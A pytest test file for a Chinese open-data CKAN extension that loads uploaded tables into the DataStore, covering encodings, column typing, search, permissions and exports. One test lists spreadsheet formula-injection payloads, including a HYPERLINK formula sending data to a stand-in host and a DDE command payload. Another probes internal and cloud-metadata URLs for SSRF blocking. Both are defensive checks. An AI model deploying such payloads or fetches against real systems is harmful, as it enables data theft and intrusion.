"""Table files into the DataStore (``ckanext.yantai.datastore.loader``), against the real file
store, DataStore and job queue: every format and encoding departments send, columns typed from
the dataset's 信息项, Chinese search over the rows, clear errors that keep the table before."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
import urllib.parse
import uuid

import ckan.plugins.toolkit as tk
import openpyxl
import pytest
from ckan.tests import factories as ckan_factories
from ckan.tests.helpers import call_action
from werkzeug.datastructures import FileStorage

from ckanext.yantai.datastore import loader
from tests import factories
from tests.yantai.feeds import allow

pytestmark = pytest.mark.usefixtures("clean_datastore")

ITEMS = [{"name": "企业名称", "data_type": "string"}, {"name": "处罚金额", "data_type": "number"},
         {"name": "处罚日期", "data_type": "date"}, {"name": "登记时间", "data_type": "datetime"}]
HEADER = ["企业名称", "处罚金额", "处罚日期", "登记时间"]
ROWS = [["烟台恒瑞食品有限公司", "5", "2026年3月1日", "2026-03-01 09:30"],
        ["莱山区老味道餐饮店", "4.72", "2026/3/2", "2026-03-02 10:00:00"],
        ["山东鲁信化工股份有限公司", "28", "2026-03-03", "2026-03-03T08:00:00Z"],
        ["蓬莱䶮字海景酒店", "3", "2026.3.4", "2026-03-04 11:15"]]


@pytest.fixture
def editor():
    return ckan_factories.Sysadmin()


@pytest.fixture
def dataset(editor):
    return factories.Dataset(info_items=ITEMS)


def upload(editor, dataset, data: bytes, filename: str, fmt: str, resource_id=None) -> dict:
    action, ref = (("resource_update", {"id": resource_id}) if resource_id else
                   ("resource_create", {"package_id": dataset["id"]}))
    return call_action(action, context={"user": editor["name"]}, **ref,
                       name=f"文件 {filename}", format=fmt,
                       upload=FileStorage(io.BytesIO(data), filename=filename))


def csv_bytes(encoding: str, rows=ROWS, header=HEADER) -> bytes:
    text = io.StringIO()
    csv.writer(text).writerows([header, *rows])
    return text.getvalue().encode(encoding)


def load(resource: dict) -> dict:
    return loader.yantai_datastore_load(resource["id"])


def search(resource: dict, **params) -> dict:
    return call_action("datastore_search", resource_id=resource["id"], **params)


def types(resource: dict) -> dict[str, str]:
    info = call_action("datastore_info", id=resource["id"])
    return {f["id"]: f["type"] for f in info["fields"] if not f["id"].startswith("_")}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_a_csv_in_each_encoding_loads_typed_and_searchable(editor, dataset, encoding):
    resource = upload(editor, dataset, csv_bytes(encoding), "处罚.csv", "CSV")
    outcome = load(resource)
    assert outcome["state"] == "complete" and outcome["rows"] == 4
    assert types(resource) == {"企业名称": "text", "处罚金额": "numeric", "处罚日期": "date",
                               "登记时间": "timestamptz"}
    rows = search(resource, sort="处罚金额 desc")["records"]
    assert [r["处罚金额"] for r in rows] == [28, 5, 4.72, 3]
    assert [r["处罚日期"] for r in rows][:2] == ["2026-03-03", "2026-03-01"]
    assert rows[0]["登记时间"] == "2026-03-03T16:00:00+08:00"  # 08:00 UTC
    assert rows[1]["登记时间"] == "2026-03-01T09:30:00+08:00"  # no zone: Beijing time
    assert "蓬莱䶮字海景酒店" in {r["企业名称"] for r in rows}
    for q, name in (("食品", "烟台恒瑞食品有限公司"), ("餐饮", "莱山区老味道餐饮店"),
                    ("恒瑞", "烟台恒瑞食品有限公司"), ("鲁信化工", "山东鲁信化工股份有限公司")):
        found = search(resource, q=q)
        assert found["total"] == 1 and found["records"][0]["企业名称"] == name
    assert call_action("resource_show", id=resource["id"])["datastore_active"] is True
    status = loader.status(resource["id"]) or {}
    assert status["state"] == "complete" and status["encoding"].replace("_", "-") in (
        encoding, "utf-8-sig" if encoding == "utf-8-sig" else encoding)


def _demo_tables():
    from demo import read_catalogue

    for ds in read_catalogue()["datasets"]:
        tables = [res for res in ds.get("resources", [])
                  if res["format"].upper() in ("CSV", "TSV", "XLSX", "XLS", "JSON")
                  and not res.get("record_type")]
        if tables:
            yield ds, tables


CJK_WORD = re.compile(r"[\u4e00-\u9fff]{2}")
SQL_TYPES = {"number": "numeric", "date": "date", "datetime": "timestamptz"}


def test_every_demo_table_loads_typed_searchable_and_like_its_catalogue(editor):
    from ckanext.yantai import quality_index
    from demo import files

    demo = list(_demo_tables())
    assert sum(len(tables) for _, tables in demo) >= 40
    problems = []
    for ds, tables in demo:
        items = ds.get("info_items") or []
        dataset = factories.Dataset(info_items=items or None)
        declared = {i["name"]: SQL_TYPES.get(i.get("data_type"), "text") for i in items}
        for res in tables:
            data, ext = files.render(res["format"], res["columns"], res["rows"])
            resource = upload(editor, dataset, data, f"{ds['name']}.{ext}",
                              res["format"].upper())
            outcome = load(resource)
            label = f"{ds['name']} / {res['name']}"
            if outcome["state"] != "complete" or outcome["rows"] != len(res["rows"]):
                problems.append(f"{label}: {outcome}")
                continue
            got = types(resource)
            wrong = {k: (got.get(k), v) for k, v in declared.items()
                     if k in got and got[k] != v}
            if wrong:
                problems.append(f"{label}: column types {wrong}")
            # a word of the last row, as a person would type it, finds that row
            row = res["rows"][-1]
            hit = next(((i, m[0]) for i, cell in enumerate(row)
                        if (m := CJK_WORD.search(str(cell)))), None)
            if hit:
                index, word = hit
                found = search(resource, q=word, limit=1000)["records"]
                if not any(str(r[res["columns"][index]]) == str(row[index]) for r in found):
                    problems.append(f"{label}: q={word} misses its row")
        checked = quality_index.table_conformance(
            call_action("package_show", id=dataset["id"]))
        if not all(checked.values()):
            problems.append(f"{ds['name']}: unlike its 信息项 " + str(
                [(loader.status(rid) or {}).get("items") for rid in checked]))
    assert not problems, "\n".join(problems)


def test_a_gbk_file_and_a_range_filter(editor, dataset):
    resource = upload(editor, dataset, csv_bytes("gbk", rows=ROWS[:3]), "gbk.csv", "CSV")
    assert load(resource)["state"] == "complete"
    found = call_action("datastore_search_sql", sql=(
        f'SELECT "企业名称" FROM "{resource["id"]}" WHERE "处罚金额" BETWEEN 4 AND 10 '
        'ORDER BY "处罚金额"'))
    assert [r["企业名称"] for r in found["records"]] == ["莱山区老味道餐饮店",
                                                     "烟台恒瑞食品有限公司"]


def test_an_xlsx_with_a_title_row_above_its_header(editor, dataset):
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.append(["烟台市行政处罚信息（2026年3月）"])
    sheet.merge_cells("A1:D1")
    sheet.append(HEADER)
    for name, amount, _, _ in ROWS:
        sheet.append([name, float(amount), None, None])
    sheet["C3"] = dt.date(2026, 3, 1)
    data = io.BytesIO()
    book.save(data)
    resource = upload(editor, dataset, data.getvalue(), "处罚.xlsx", "XLSX")
    outcome = load(resource)
    assert outcome["state"] == "complete" and outcome["rows"] == 4
    assert types(resource)["处罚金额"] == "numeric"
    rows = search(resource, sort="处罚金额")["records"]
    assert [r["处罚金额"] for r in rows] == [3, 4.72, 5, 28]
    assert [r["处罚日期"] for r in rows if r["处罚日期"]] == ["2026-03-01"]


@pytest.mark.parametrize("wrap", [lambda rows: rows, lambda rows: {"total": 2, "data": rows}])
def test_json_records(editor, dataset, wrap):
    records = [{"企业名称": "烟台恒瑞食品有限公司", "处罚金额": 5, "备注": {"来源": "市场监管"}},
               {"企业名称": "莱山区老味道餐饮店", "处罚金额": 4.72, "处罚日期": "2026-03-02"}]
    data = json.dumps(wrap(records), ensure_ascii=False).encode()
    resource = upload(editor, dataset, data, "处罚.json", "JSON")
    assert load(resource)["state"] == "complete"
    assert types(resource) == {"企业名称": "text", "处罚金额": "numeric", "备注": "text",
                               "处罚日期": "date"}
    rows = search(resource, sort="处罚金额")["records"]
    assert rows[1]["备注"] == '{"来源": "市场监管"}' and rows[1]["处罚日期"] is None


def test_types_are_inferred_without_information_items(editor):
    dataset = factories.Dataset(info_items=[{"name": "说明", "data_type": "string"}])
    data = csv_bytes("utf-8", header=["站点", "区号", "客流量", "开通日期", "信用代码"], rows=[
        ["鹤顶路", "0535", "1,200", "2020-01-01", "91370602MA3C7XLK9X"],
        ["南大街", "0535", "980", "2021-06-30", "913706000000000001"]])
    resource = upload(editor, dataset, data, "站点.csv", "CSV")
    outcome = load(resource)
    assert types(resource) == {"站点": "text", "区号": "text", "客流量": "numeric",
                               "开通日期": "date", "信用代码": "text"}
    assert [r["客流量"] for r in search(resource, sort="客流量")["records"]] == [980, 1200]
    assert outcome["items"] == {"missing": ["说明"],
                                "extra": ["站点", "区号", "客流量", "开通日期", "信用代码"]}


def test_a_value_that_does_not_fit_its_type_keeps_the_column_as_text(editor, dataset):
    rows = [*ROWS[:2], ["招远黄金冶炼厂", "暂无", "2026-03-05", ""]]
    resource = upload(editor, dataset, csv_bytes("utf-8", rows=rows), "处罚.csv", "CSV")
    outcome = load(resource)
    assert outcome["state"] == "complete"
    assert types(resource)["处罚金额"] == "text"  # nothing lost
    amount = next(c for c in outcome["columns"] if c["name"] == "处罚金额")
    assert amount["declared"] == "numeric" and amount["misfits"] == 1
    assert amount["misfit_examples"] == [{"row": 4, "value": "暂无"}]
    assert {r["处罚金额"] for r in search(resource)["records"]} == {"5", "4.72", "暂无"}


@pytest.mark.parametrize("text", ["9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00+14:00"])
def test_a_moment_past_the_ends_of_time_in_beijing_does_not_fit_a_date_column(text):
    from ckanext.yantai.datastore import columns

    # Misfits keep the column as text (above); an OverflowError failed the whole load before.
    for convert in (columns.date, columns.naive_timestamp):
        with pytest.raises(columns.Misfit):
            convert(text)


def test_the_data_dictionary_correction_wins_on_the_next_load(editor, dataset):
    resource = upload(editor, dataset, csv_bytes("utf-8"), "处罚.csv", "CSV")
    load(resource)
    info = call_action("datastore_info", id=resource["id"])
    fields = [{"id": f["id"], "type": f["type"],
               "info": {"label": "金额（万元）", "type_override": "text"}
               if f["id"] == "处罚金额" else f.get("info", {})}
              for f in info["fields"] if not f["id"].startswith("_")]
    call_action("datastore_create", resource_id=resource["id"], force=True, fields=fields)
    assert load(resource)["state"] == "unchanged"  # the same file
    call_action("yantai_datastore_submit", context={"user": editor["name"]},
                resource_id=resource["id"])  # a reload, as the editor asks it
    assert loader.yantai_datastore_load(resource["id"], force=True)["state"] == "complete"
    field = next(f for f in call_action("datastore_info", id=resource["id"])["fields"]
                 if f["id"] == "处罚金额")
    assert field["type"] == "text" and field["info"]["label"] == "金额（万元）"


@pytest.mark.parametrize(("data", "reason", "row"), [
    (b"\x00\x01\x02binary", "binary", None),
    (b"", "empty", None),
    ("企业名称,处罚金额\n甲公司,5\n乙公司,3,多出来的值\n".encode(), "too_many_values", 3),
    ("企业名称,处罚金额\n甲公司,5\n".encode() + "乙公司,3\n".encode("big5") + b"\xff\xfe\n",
     "undecodable", None),
])
def test_a_bad_file_gets_its_reason_and_keeps_the_table_before(editor, dataset, data, reason,
                                                                row):
    resource = upload(editor, dataset, csv_bytes("utf-8"), "处罚.csv", "CSV")
    load(resource)
    upload(editor, dataset, data, "处罚.csv", "CSV", resource_id=resource["id"])
    outcome = load(resource)
    assert outcome["state"] == "error" and outcome["error"]["reason"] == reason
    if row is not None:
        assert outcome["error"]["row"] == row
    assert search(resource)["total"] == 4  # the table before, whole
    assert (loader.status(resource["id"]) or {})["error"]["reason"] == reason


@pytest.mark.parametrize("url", ["http://127.0.0.1:5432/x.csv", "http://169.254.169.254/a.csv",
                                 "http://[::ffff:127.0.0.1]/a.csv", "http://localhost./a.csv"])
def test_remote_files_are_fetched_only_from_public_addresses(editor, dataset, url):
    resource = call_action("resource_create", context={"user": editor["name"]},
                           package_id=dataset["id"], name="远程表格", format="CSV", url=url)
    outcome = load(resource)
    assert outcome["state"] == "error" and outcome["error"]["reason"] == "download"
    assert outcome["error"]["details"]["code"] in ("address_not_public", "protected_service",
                                                   "host_not_found")


def test_a_remote_file_is_downloaded_and_checked_for_markings(editor, dataset, feed_server,
                                                              monkeypatch):
    allow(monkeypatch, f"127.0.0.1:{feed_server.port}",
          key="ckanext.yantai.linkcheck.allowed_hosts")
    feed_server.files["/open.csv"] = csv_bytes("gb18030")
    feed_server.files["/secret.csv"] = "企业名称,说明\n甲公司,绝密★5年\n".encode()
    good = call_action("resource_create", context={"user": editor["name"]},
                       package_id=dataset["id"], name="远程表格", format="CSV",
                       url=feed_server.url("/open.csv"))
    assert load(good)["rows"] == 4 and search(good, q="䶮字")["total"] == 1
    bad = call_action("resource_create", context={"user": editor["name"]},
                      package_id=dataset["id"], name="远程表格二", format="CSV",
                      url=feed_server.url("/secret.csv"))
    outcome = load(bad)
    assert outcome["error"]["reason"] == "classified"
    with pytest.raises(tk.ObjectNotFound):
        call_action("datastore_info", id=bad["id"])


def test_only_editors_of_the_dataset_may_ask_for_a_reload(editor, dataset):
    outsider = ckan_factories.User()
    resource = call_action("resource_create", context={"user": editor["name"]},
                           package_id=dataset["id"], name="表", format="CSV",
                           url="https://data.example.cn/a.csv")
    with pytest.raises(tk.NotAuthorized):
        call_action("yantai_datastore_submit", context={"user": outsider["name"],
                                                        "ignore_auth": False},
                    resource_id=resource["id"])


def test_not_loaded_other_resources_and_records(editor, dataset):
    pdf = upload(editor, dataset, b"%PDF-1.4\n", "说明.pdf", "PDF")
    assert load(pdf) == {"state": "skipped"}
    records = call_action("resource_create", context={"user": editor["name"]},
                          package_id=dataset["id"], name="行政处罚", record_type="penalty",
                          format="CSV", url="")
    assert loader.format_of(records) is None


@pytest.mark.ckan_config("ckanext.yantai.datastore.load_on_update", "true")
def test_an_upload_is_queued_and_a_worker_loads_it(editor, dataset):
    from ckan.lib.jobs import get_queue

    get_queue().empty()
    resource = upload(editor, dataset, csv_bytes("gb18030"), "处罚.csv", "CSV")
    assert (loader.status(resource["id"]) or {})["state"] == "pending"
    titles = [j["title"] for j in call_action("job_list", context={"ignore_auth": True})]
    assert titles == [f"load resource {resource['id']} into the DataStore"]
    worker = subprocess.run(
        [os.path.join(os.path.dirname(sys.executable), "ckan"), "-c", tk.config["__file__"],
         "jobs", "worker", "--burst"], capture_output=True, text=True, timeout=300)
    assert worker.returncode == 0, worker.stderr
    assert search(resource, q="食品")["total"] == 1
    # saved again without a change to the file: not loaded again
    call_action("package_patch", context={"user": editor["name"]}, id=dataset["id"],
                notes="更新了说明。")
    assert call_action("job_list", context={"ignore_auth": True}) == []
    # the 信息项 change the columns' types: loaded again
    call_action("package_patch", context={"user": editor["name"]}, id=dataset["id"],
                info_items=[*ITEMS[:1], {"name": "处罚金额", "data_type": "string"}, *ITEMS[2:]])
    assert len(call_action("job_list", context={"ignore_auth": True})) == 1
    get_queue().empty()


def page(app, dataset, resource, **kw) -> str:
    return app.get(f"/dataset/{dataset['name']}/resource/{resource['id']}", **kw).body


def test_the_resource_page_shows_the_load_in_chinese(app, editor):
    dataset = factories.Dataset(info_items=ITEMS, user=editor)
    rows = [*ROWS[:2], ["招远黄金冶炼厂", "暂无", "2026-03-05", ""]]
    resource = upload(editor, dataset, csv_bytes("utf-8", rows=rows), "处罚.csv", "CSV")
    load(resource)
    html = page(app, dataset, resource)
    assert "数据表：" in html and "已载入，共 3 行" in html
    finished = dt.datetime.fromisoformat((loader.status(resource["id"]) or {})["finished"])
    beijing = finished.astimezone(dt.timezone(dt.timedelta(hours=8)))
    assert f"（{beijing.year}年{beijing.month}月{beijing.day}日 {beijing:%H:%M}）" in html
    assert "列“处罚金额”有 1 个值不是数值型，该列按文本载入；例如第 4 行：暂无" in html
    assert "重新载入" not in html  # for its editors only
    upload(editor, dataset, b"\x00\x01", "处罚.csv", "CSV", resource_id=resource["id"])
    load(resource)
    html = page(app, dataset, resource)
    assert "载入失败：文件不是文本表格（含有二进制数据）" in html


def test_no_values_of_conditional_data_on_its_page(app, editor):
    dataset = factories.Dataset(info_items=ITEMS, user=editor, open_type="conditional",
                                open_condition="需签署安全承诺书")
    rows = [*ROWS[:2], ["招远黄金冶炼厂", "保密金额7f3a", "2026-03-05", ""]]
    resource = upload(editor, dataset, csv_bytes("utf-8", rows=rows), "处罚.csv", "CSV")
    load(resource)
    outsider = {"Authorization": ckan_factories.APIToken(
        user=ckan_factories.User()["name"])["token"]}
    for headers in ({}, outsider):
        html = page(app, dataset, resource, headers=headers)
        assert "已载入" in html and "保密金额7f3a" not in html
        assert "共 3 行" not in html  # nor its size
    own = {"Authorization": ckan_factories.APIToken(user=editor["name"])["token"]}
    html = page(app, dataset, resource, headers=own)
    assert "保密金额7f3a" in html and "已载入，共 3 行" in html


def test_an_editor_asks_for_a_reload_from_the_page(app, editor, dataset):
    from ckan.lib.jobs import get_queue

    resource = upload(editor, dataset, csv_bytes("utf-8"), "处罚.csv", "CSV")
    load(resource)
    own = {"Authorization": ckan_factories.APIToken(user=editor["name"])["token"]}
    assert "重新载入" in page(app, dataset, resource, headers=own)
    get_queue().empty()
    url = f"/dataset/{dataset['name']}/resource/{resource['id']}/datastore/reload"
    outsider = {"Authorization": ckan_factories.APIToken(
        user=ckan_factories.User()["name"])["token"]}
    assert app.post(url, headers=outsider, status=403)
    assert call_action("job_list", context={"ignore_auth": True}) == []
    answer = app.post(url, headers=own, follow_redirects=False)
    assert answer.status_code == 302
    assert len(call_action("job_list", context={"ignore_auth": True})) == 1
    assert (loader.status(resource["id"]) or {})["state"] == "pending"
    assert loader.yantai_datastore_load(resource["id"], force=True)["state"] == "complete"
    get_queue().empty()


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_the_table_downloads_in_the_formats_people_use(app, editor, fmt):
    dataset = factories.Dataset(info_items=ITEMS, user=editor, title="烟台市行政处罚信息")
    resource = upload(editor, dataset, csv_bytes("gb18030"), "处罚.csv", "CSV")
    load(resource)
    assert f"table.{fmt}" in page(app, dataset, resource)
    answer = app.get(f"/dataset/{dataset['name']}/resource/{resource['id']}/table.{fmt}")
    assert answer.status_code == 200
    disposition = answer.headers["Content-Disposition"]
    assert "filename*=UTF-8''" in disposition
    assert urllib.parse.unquote(disposition.split("''", 1)[1]) == \
        f"烟台市行政处罚信息-文件 处罚.{fmt}"
    if fmt == "csv":
        assert answer.data.startswith("\ufeff".encode())
        rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    elif fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(answer.data)).worksheets[0]
        rows = [["" if v is None else str(v) for v in r]
                for r in sheet.iter_rows(values_only=True)]
    else:
        body = json.loads(answer.data)
        rows = [body["fields"]] + [[str(r[k]) for k in body["fields"]] for r in body["records"]]
    assert rows[0] == HEADER
    assert len(rows) == 5 and "蓬莱䶮字海景酒店" in {r[0] for r in rows}
    amounts = {r[0]: r[1] for r in rows[1:]}
    assert amounts["莱山区老味道餐饮店"] == "4.72" and amounts["山东鲁信化工股份有限公司"] == "28"


def test_rows_keep_the_files_order_and_later_rows_follow(editor, dataset):
    rows = [[f"烟台第{n}食品有限公司", str(n), "2026-03-01", ""] for n in range(1, 31)]
    resource = upload(editor, dataset, csv_bytes("utf-8", rows=rows), "处罚.csv", "CSV")
    assert load(resource)["rows"] == 30
    found = search(resource, sort="_id", limit=100)["records"]
    assert [(r["_id"], r["处罚金额"]) for r in found] == [(n, n) for n in range(1, 31)]
    call_action("datastore_upsert", resource_id=resource["id"], force=True, method="insert",
                records=[{"企业名称": "新增企业", "处罚金额": 1}])
    assert search(resource, q="新增企业")["records"][0]["_id"] == 31


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_value_that_would_start_a_formula_stays_text_in_spreadsheets(app, editor, fmt):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0",
               "@SUM(1+1)", "-2+3", "\t=1+1"]
    rows = [[name, "5", "2026-03-01", ""] for name in hostile] + [["-", "-4.5", "", ""]]
    dataset = factories.Dataset(info_items=ITEMS, user=editor)
    resource = upload(editor, dataset, csv_bytes("utf-8", rows=rows), "处罚.csv", "CSV")
    assert load(resource)["state"] == "complete"
    # a row written through the API may carry a control character, which no file can
    call_action("datastore_upsert", resource_id=resource["id"], force=True, method="insert",
                records=[{"企业名称": "=1+1\x01"}])
    answer = app.get(f"/dataset/{dataset['name']}/resource/{resource['id']}/table.{fmt}")
    if fmt == "csv":
        got = [r[:2] for r in csv.reader(io.StringIO(answer.data.decode("utf-8-sig")))][1:]
        assert [r[0] for r in got] == ["'" + v for v in hostile] + ["-", "'=1+1\x01"]
        assert got[-2][1] == "-4.5"  # numbers stay numbers
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(answer.data)).worksheets[0]
        cells = [r[0] for r in sheet.iter_rows(min_row=2)]
        # (a sheet holds no control characters: they are left out)
        assert [c.value for c in cells] == [*hostile, "-", "=1+1"]
        assert {c.data_type for c in cells} == {"s"}


def test_table_downloads_of_conditional_data_only_to_those_who_may_have_it(app, editor):
    dataset = factories.Dataset(info_items=ITEMS, user=editor, open_type="conditional",
                                open_condition="需签署安全承诺书")
    resource = upload(editor, dataset, csv_bytes("utf-8"), "处罚.csv", "CSV")
    load(resource)
    url = f"/dataset/{dataset['name']}/resource/{resource['id']}/table.csv"
    outsider = {"Authorization": ckan_factories.APIToken(
        user=ckan_factories.User()["name"])["token"]}
    for headers in ({}, outsider):
        assert app.get(url, headers=headers, status=404)
        assert "table.csv" not in page(app, dataset, resource, headers=headers)
    own = {"Authorization": ckan_factories.APIToken(user=editor["name"])["token"]}
    assert "烟台恒瑞食品有限公司" in app.get(url, headers=own).data.decode("utf-8-sig")
    missing = f"/dataset/{dataset['name']}/resource/{uuid.uuid4()}/table.csv"
    assert app.get(missing, headers=outsider, status=404)


def test_a_table_unlike_its_catalogue_entry_lowers_the_quality_score(editor):
    from ckanext.yantai import quality_index

    dataset = factories.Dataset(info_items=ITEMS, user=editor)
    resource = upload(editor, dataset, csv_bytes("utf-8"), "处罚.csv", "CSV")
    load(resource)
    good = quality_index.assess(call_action("package_show", id=dataset["id"]))
    assert "table_mismatch" not in good.issues
    rows = [*ROWS[:2], ["招远黄金冶炼厂", "暂无", "2026-03-05", ""]]
    upload(editor, dataset, csv_bytes("utf-8", rows=rows), "处罚.csv", "CSV",
           resource_id=resource["id"])
    load(resource)
    bad = quality_index.assess(call_action("package_show", id=dataset["id"]))
    assert "table_mismatch" in bad.issues and bad.score == good.score - 15
    indexed = call_action("package_search", fq=f"id:{dataset['id']}",
                          fl="id,quality_score,quality_issues")["results"]
    assert indexed and "table_mismatch" in indexed[0].get("quality_issues", [])


def test_a_datasets_tables_may_share_out_its_information_items(app, editor):
    from ckanext.yantai import quality_index

    dataset = factories.Dataset(info_items=ITEMS, user=editor)
    names = csv_bytes("utf-8", rows=[r[:2] for r in ROWS], header=HEADER[:2])
    dates = csv_bytes("utf-8", rows=[[r[0], r[2], r[3]] for r in ROWS],
                      header=[HEADER[0], *HEADER[2:]])
    first = upload(editor, dataset, names, "金额.csv", "CSV")
    load(first)
    alone = quality_index.table_conformance(call_action("package_show", id=dataset["id"]))
    assert alone == {first["id"]: False}  # 处罚日期 and 登记时间 are in no table
    html = page(app, dataset, first)
    assert "本表不含的信息项：处罚日期、登记时间" in html and "信息项中没有的列" not in html
    second = upload(editor, dataset, dates, "日期.csv", "CSV")
    load(second)
    both = quality_index.table_conformance(call_action("package_show", id=dataset["id"]))
    assert both == {first["id"]: True, second["id"]: True}
    assert "本表不含的信息项" not in page(app, dataset, first)  # the other table has them
    extra = csv_bytes("utf-8", rows=[[*r, "备注"] for r in ROWS], header=[*HEADER, "备注栏"])
    upload(editor, dataset, extra, "日期.csv", "CSV", resource_id=second["id"])
    load(second)
    checked = quality_index.table_conformance(call_action("package_show", id=dataset["id"]))
    assert checked == {first["id"]: True, second["id"]: False}
    assert "信息项中没有的列：备注栏" in page(app, dataset, second)
